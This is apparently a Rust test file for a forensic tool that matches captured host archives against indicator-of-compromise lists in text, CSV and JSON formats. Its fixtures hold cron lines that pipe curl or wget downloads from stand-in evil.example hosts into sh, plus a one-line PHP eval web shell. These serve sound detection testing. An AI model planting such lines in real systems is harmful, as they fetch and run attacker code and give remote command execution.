//! Tests of `--ioc FILE` (indicator lists): a host tree with a cron entry
//! calling a C2 domain, a unit pointing at a C2 address, a dropped binary,
//! a web shell and web and auth logs from a listed range, captured with
//! the real `exhibit capture`; indicator lists in the three formats
//! (plain text, CSV, JSON) with defanged values and bad lines, written by
//! the test; and `scan`, `diff`, `logs` and `investigate` asked about them.

use crate::util::scenario::{access, capture_tree, syslog};
use crate::util::{exhibit, write};
use md5::Digest as _;
use serde_json::Value;
use std::path::{Path, PathBuf};

/// The dropped binary's bytes (its MD5 and SHA-1 are listed, never its
/// SHA-256: they must be computed from the archive).
const DROPPER: &[u8] = b"\x7fELF\x02\x01\x01\0fake dropper for the ioc tests\0\x01\x02";
const RANGE_IP: &str = "198.51.100.23";

fn md5_hex(b: &[u8]) -> String {
    hex::encode(md5::Md5::digest(b))
}

fn sha1_hex(b: &[u8]) -> String {
    hex::encode(sha1::Sha1::digest(b))
}

/// The incident host: everything the lists name, plus near misses that
/// must not match.
fn incident_tree(root: &Path) {
    write(
        root,
        "etc/cron.d/backup",
        b"# nightly\n*/5 * * * * root curl -s http://cdn.evil.example/a.sh | sh\n",
    );
    write(
        root,
        "etc/systemd/system/updater.service",
        b"[Unit]\nDescription=updater\n[Service]\nExecStart=/usr/local/bin/upd --server 203.0.113.50:8443\n",
    );
    // Near misses: another domain ending like the listed one, a longer
    // address starting like the listed one.
    write(
        root,
        "etc/hosts.allow",
        b"sshd: notcdn.evil.example cdn.evil.example.org 203.0.113.501 x203.0.113.50\n",
    );
    write(root, "usr/local/bin/dropper", DROPPER);
    write(
        root,
        "var/www/html/uploads/img.phtml",
        b"<?php eval($_POST['c']); ?>\n",
    );
    let mut acc = String::new();
    acc += &access(
        "192.0.2.10",
        "10/Mar/2026:08:00:00",
        "GET",
        "/",
        200,
        512,
        "Mozilla/5.0",
    );
    acc += &access(
        RANGE_IP,
        "10/Mar/2026:08:01:00",
        "GET",
        "/index.php?id=1%27",
        200,
        512,
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
    );
    acc += &access(
        RANGE_IP,
        "10/Mar/2026:08:02:00",
        "POST",
        "/uploads/img.phtml",
        200,
        64,
        "Mozilla/5.0",
    );
    write(root, "var/log/apache2/access.log", acc.as_bytes());
    let auth = syslog(
        "2026-03-10T08:03:00",
        "sshd[2200]",
        &format!("Accepted password for deploy from {RANGE_IP} port 50100 ssh2"),
    );
    write(root, "var/log/auth.log", auth.as_bytes());
}

/// The three lists: (text, csv, json).
fn lists(dir: &Path) -> [PathBuf; 3] {
    let text = dir.join("c2.txt");
    std::fs::write(
        &text,
        format!(
            "# campaign X\n\
             cdn.evil[.]example # C2 domain\n\
             hxxp://drop.evil[.]example/stage2.sh\n\
             203.0.113[.]50 # C2 server\n\
             md5:{} # dropper\n\
             *.phtml # web shell extension\n\
             this is not an indicator\n\
             sha256:1234\n",
            md5_hex(DROPPER)
        ),
    )
    .unwrap();
    let csv = dir.join("feed.csv");
    std::fs::write(
        &csv,
        "type,value,comment\n\
         cidr,198.51.100.0/24,\"scanner range, ASN 64500\"\n\
         user-agent,sqlmap,sql injection tool\n\
         account,deploy,account used by the actor\n\
         colour,red,unknown type\n",
    )
    .unwrap();
    let json = dir.join("misp.json");
    std::fs::write(
        &json,
        format!(
            "[\n  {{\"type\": \"sha1\", \"value\": \"{}\", \"comment\": \"dropper (sha1)\"}},\n  {{\"type\": \"email\", \"value\": \"ops[@]evil.example\"}},\n  {{\"comment\": \"no value\"}}\n]\n",
            sha1_hex(DROPPER)
        ),
    )
    .unwrap();
    [text, csv, json]
}

fn ioc_args(l: &[PathBuf]) -> Vec<String> {
    l.iter()
        .flat_map(|p| ["--ioc".to_string(), p.display().to_string()])
        .collect()
}

/// Run exhibit; (exit code, JSON stdout, stderr).
fn run(args: &[String]) -> (i32, Value, String) {
    let out = exhibit().args(args).output().expect("run exhibit");
    let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (
        out.status.code().unwrap_or(-1),
        doc,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn findings<'a>(doc: &'a Value, rule: &str) -> Vec<&'a Value> {
    doc["findings"]
        .as_array()
        .map(|a| a.iter().filter(|f| f["rule"] == rule).collect())
        .unwrap_or_default()
}

fn evidence(f: &Value) -> String {
    f["evidence"].to_string()
}

struct Fixture {
    _tmp: tempfile::TempDir,
    archive: PathBuf,
    lists: [PathBuf; 3],
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("web01");
    incident_tree(&root);
    let archive = capture_tree(&root, &tmp.path().join("out"));
    let lists = lists(tmp.path());
    Fixture {
        _tmp: tmp,
        archive,
        lists,
    }
}

#[test]
fn scan_matches_files_names_hashes_and_text_of_a_captured_archive() {
    let fx = fixture();
    let mut args = vec![
        "scan".to_string(),
        fx.archive.display().to_string(),
        "--json".into(),
        "-q".into(),
    ];
    args.extend(ioc_args(&fx.lists));
    let (code, doc, stderr) = run(&args);
    assert_eq!(code, 0, "{stderr}");

    // The cron entry calling the (defanged) listed domain, by line.
    let dom = findings(&doc, "ioc.domain");
    let cron = dom
        .iter()
        .find(|f| f["path"] == "/etc/cron.d/backup")
        .unwrap_or_else(|| panic!("no domain hit on the cron entry: {dom:?}"));
    let ev = evidence(cron);
    assert!(
        ev.contains("line 2: */5 * * * * root curl -s http://cdn.evil.example/a.sh"),
        "{ev}"
    );
    assert!(
        ev.contains("c2.txt:2") && ev.contains("C2 domain"),
        "list, line and comment: {ev}"
    );
    assert_eq!(cron["severity"], "high");
    // Near misses do not match.
    assert!(
        doc["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["path"] != "/etc/hosts.allow"),
        "{}",
        doc["findings"]
    );

    // The unit's address.
    let ip = findings(&doc, "ioc.ip");
    assert!(
        ip.iter()
            .any(|f| f["path"] == "/etc/systemd/system/updater.service"
                && evidence(f).contains("203.0.113.50")
                && evidence(f).contains("c2.txt:4")),
        "{ip:?}"
    );

    // MD5 (text list) and SHA-1 (JSON list) computed from the archive.
    let md5 = findings(&doc, "ioc.md5");
    assert_eq!(md5.len(), 1, "{md5:?}");
    assert_eq!(md5[0]["path"], "/usr/local/bin/dropper");
    assert_eq!(md5[0]["severity"], "critical");
    assert!(evidence(md5[0]).contains(&md5_hex(DROPPER)));
    assert!(
        evidence(md5[0]).contains("whose SHA-256 is the recorded one"),
        "{}",
        evidence(md5[0])
    );
    let sha1 = findings(&doc, "ioc.sha1");
    assert_eq!(sha1.len(), 1, "{sha1:?}");
    assert!(
        evidence(sha1[0]).contains("misp.json:2"),
        "{}",
        evidence(sha1[0])
    );

    // The web shell by its name.
    let names = findings(&doc, "ioc.filename");
    assert!(
        names
            .iter()
            .any(|f| f["path"] == "/var/www/html/uploads/img.phtml"),
        "{names:?}"
    );

    // Every bad line is named, on stderr and in the JSON, by file and line.
    for want in ["c2.txt:7", "c2.txt:8", "feed.csv:5", "misp.json:4"] {
        assert!(
            stderr.contains(want),
            "{want} not named on stderr: {stderr}"
        );
    }
    let lists = doc["ioc"]["lists"].as_array().expect("ioc lists in --json");
    assert_eq!(lists.len(), 3);
    assert_eq!(lists[0]["format"], "text");
    assert_eq!(lists[1]["format"], "csv");
    assert_eq!(lists[2]["format"], "json");
    assert_eq!(lists[0]["rejected"].as_array().unwrap().len(), 2);
    assert_eq!(lists[1]["rejected"][0]["line"], 5);

    // Without the lists, none of this.
    let (_, plain, _) = run(&[
        "scan".into(),
        fx.archive.display().to_string(),
        "--json".into(),
        "-q".into(),
    ]);
    assert!(
        plain["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| !f["rule"].as_str().unwrap_or("").starts_with("ioc.")),
        "{}",
        plain["findings"]
    );
    assert!(plain.get("ioc").is_none());
}

#[test]
fn logs_name_the_range_agent_account_and_file_name_with_provenance() {
    let fx = fixture();
    let mut args = vec![
        "logs".to_string(),
        fx.archive.display().to_string(),
        "--json".into(),
        "-q".into(),
    ];
    args.extend(ioc_args(&fx.lists));
    let (code, doc, stderr) = run(&args);
    assert_eq!(code, 0, "{stderr}");
    let cidr = findings(&doc, "ioc.cidr");
    assert_eq!(cidr.len(), 1, "{}", doc["findings"]);
    let c = cidr[0];
    assert_eq!(c["ips"], serde_json::json!([RANGE_IP]));
    assert_eq!(c["events"], 3, "two web requests and the SSH login: {c}");
    let ex = c["explanation"].as_str().unwrap();
    assert!(
        ex.contains("feed.csv:2") && ex.contains("scanner range, ASN 64500"),
        "{ex}"
    );
    assert!(ex.contains("client address"), "{ex}");
    assert!(
        c["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["path"] == "/var/log/auth.log"
                && e["line"] == 1
                && e["archive"].as_str().is_some()),
        "{c}"
    );
    let ua = findings(&doc, "ioc.user_agent");
    assert_eq!(ua.len(), 1);
    assert_eq!(ua[0]["events"], 1);
    assert_eq!(ua[0]["evidence"][0]["line"], 2);
    let acct = findings(&doc, "ioc.account");
    assert_eq!(acct.len(), 1);
    assert_eq!(acct[0]["users"], serde_json::json!(["deploy"]));
    let names = findings(&doc, "ioc.filename");
    assert_eq!(
        names.len(),
        1,
        "the POST to the web shell: {}",
        doc["findings"]
    );
    assert_eq!(names[0]["evidence"][0]["line"], 3);
    // The address outside the range is in no IOC finding.
    assert!(!doc["findings"].to_string().contains("\"192.0.2.10\""));
}

#[test]
fn investigate_puts_indicator_hits_in_who_and_how() {
    let fx = fixture();
    let mut args = vec![
        "investigate".to_string(),
        fx.archive.display().to_string(),
        "--json".into(),
        "-q".into(),
    ];
    args.extend(ioc_args(&fx.lists));
    let (code, doc, stderr) = run(&args);
    assert_eq!(code, 0, "{stderr}");
    let actors = doc["actors"].as_array().unwrap();
    let ip = actors
        .iter()
        .find(|a| a["kind"] == "ip" && a["value"] == RANGE_IP)
        .unwrap_or_else(|| panic!("{RANGE_IP} not an actor: {}", doc["actors"]));
    assert!(ip["did"].to_string().contains("known indicator"), "{ip}");
    assert!(
        actors
            .iter()
            .any(|a| a["kind"] == "account" && a["value"] == "deploy"),
        "{}",
        doc["actors"]
    );
    let who = doc["answers"]["who"]["summary"].as_str().unwrap();
    assert!(who.contains(RANGE_IP), "{who}");
    let how = &doc["answers"]["how"];
    let how_text = format!("{} {}", how["summary"], how["details"]);
    assert!(how_text.contains("indicator"), "{how_text}");
    let rules: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    for r in ["ioc.md5", "ioc.domain", "ioc.cidr"] {
        assert!(rules.contains(&r), "{r} not among {rules:?}");
    }
    // The dropper and the cron entry are things to remove.
    let left = doc["answers"]["left_behind"].to_string();
    assert!(left.contains("/etc/cron.d/backup"), "{left}");
    assert!(doc["ioc"]["indicators"].as_u64().unwrap() >= 10);
}

#[test]
fn diff_marks_the_change_and_a_bad_list_is_an_error_naming_it() {
    let tmp = tempfile::tempdir().unwrap();
    let old = tmp.path().join("old");
    let new = tmp.path().join("new");
    write(&old, "etc/hostname", b"web01\n");
    write(&new, "etc/hostname", b"web01\n");
    write(
        &new,
        "etc/cron.d/backup",
        b"*/5 * * * * root wget -qO- drop.evil.example/stage2.sh | sh\n",
    );
    let [text, _, _] = lists(tmp.path());
    let (code, doc, stderr) = run(&[
        "diff".into(),
        old.display().to_string(),
        new.display().to_string(),
        "--json".into(),
        "-q".into(),
        "--ioc".into(),
        text.display().to_string(),
    ]);
    assert_eq!(code, 0, "{stderr}");
    let url = findings(&doc, "ioc.url");
    assert_eq!(url.len(), 1, "{}", doc["findings"]);
    assert_eq!(url[0]["path"], "/etc/cron.d/backup");
    assert_eq!(url[0]["change"], "added");
    assert!(
        evidence(url[0]).contains("c2.txt:3"),
        "{}",
        evidence(url[0])
    );

    // A list that is not JSON, and one with nothing usable: exit 2, the
    // file named.
    let bad = tmp.path().join("broken.json");
    std::fs::write(&bad, "[{\"type\": \"ip\", \"value\": ").unwrap();
    let empty = tmp.path().join("junk.txt");
    std::fs::write(&empty, "just words\nmore words\n").unwrap();
    for (list, says) in [(&bad, "not valid JSON"), (&empty, "no indicator")] {
        let (code, _, stderr) = run(&[
            "scan".into(),
            new.display().to_string(),
            "-q".into(),
            "--ioc".into(),
            list.display().to_string(),
        ]);
        assert_eq!(code, 2, "{stderr}");
        assert!(
            stderr.contains(says) && stderr.contains(&list.display().to_string()),
            "{stderr}"
        );
    }
}

/// An archive whose dropper was swapped after capture (the ZIP rewritten
/// with Python's zipfile, CRCs right, the records untouched): the MD5 of
/// the swapped bytes matches a listed one, and the finding says that the
/// content it was computed from is not the content captured.
#[test]
fn hashes_of_altered_content_are_flagged_as_such() {
    let fx = fixture();
    let planted: &[u8] = b"\x7fELF\x02\x01\x01\0a different binary, swapped in later\0";
    let program = format!(
        "import sys, zipfile\n\
         src = zipfile.ZipFile(sys.argv[1])\n\
         items = [(i.filename, src.read(i)) for i in src.infolist()]\n\
         src.close()\n\
         items = [(n, bytes.fromhex('{}') if n.endswith('/usr/local/bin/dropper') else d) for n, d in items]\n\
         out = zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED)\n\
         for n, d in items:\n    out.writestr(n, d)\n\
         out.close()\n",
        hex::encode(planted)
    );
    crate::util::tool(
        "python3",
        &["-c", &program, fx.archive.to_str().unwrap()],
        fx.archive.parent().unwrap(),
    );
    let list = fx.archive.parent().unwrap().join("planted.txt");
    std::fs::write(
        &list,
        format!("md5:{} # the planted binary\n", md5_hex(planted)),
    )
    .unwrap();
    let (code, doc, stderr) = run(&[
        "scan".into(),
        fx.archive.display().to_string(),
        "--json".into(),
        "-q".into(),
        "--ioc".into(),
        list.display().to_string(),
    ]);
    // A finding on altered bytes is not a clean run (docs/diff.md).
    assert_eq!(code, 1, "{stderr}");
    assert!(
        stderr.contains("WARNING: content does not match the sealed manifest")
            && stderr.contains("/usr/local/bin/dropper"),
        "{stderr}"
    );
    let md5 = findings(&doc, "ioc.md5");
    assert_eq!(md5.len(), 1, "{md5:?}");
    let ev = evidence(md5[0]);
    assert!(
        ev.contains(&md5_hex(planted)) && ev.contains("does NOT match the SHA-256 recorded"),
        "{ev}"
    );
    assert!(
        md5[0]["altered"]
            .as_str()
            .is_some_and(|w| w.contains("but the manifest sealed")),
        "{}",
        md5[0]
    );
}
